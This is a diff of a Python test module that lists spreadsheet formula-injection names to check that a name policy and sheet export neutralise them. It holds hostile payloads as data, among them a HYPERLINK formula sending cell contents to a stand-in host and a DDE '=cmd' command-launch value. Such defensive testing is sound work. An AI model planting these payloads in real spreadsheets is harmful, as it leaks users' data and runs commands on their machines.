@@ -22,7 +22,8 @@ from workflows.registry import Registry
 D = Registry.default().get("cpc_2014@2")
 # Names the name policy accepts (it refuses control characters: tab/CR/LF payloads are covered
 # by tests/unit/test_spreadsheet_safety.py, which writes them straight into the sheets).
-ADDED = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "'=1+1"]
+# (names are at most 40 characters, as everywhere: the HYPERLINK payload is a short one)
+ADDED = ['=HYPERLINK("http://ev.il/?x="&A1,"点我")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "'=1+1"]
 # raw cells of a hostile file -> the names they import as ("'=2+2" is how Excel users type text "=2+2")
 IMPORTED = {"@SUM(A1:A9)": "@SUM(A1:A9)", "＝1+1": "＝1+1", "-王": "-王", "'=2+2": "=2+2"}
 STORED = [*ADDED, *IMPORTED.values()]
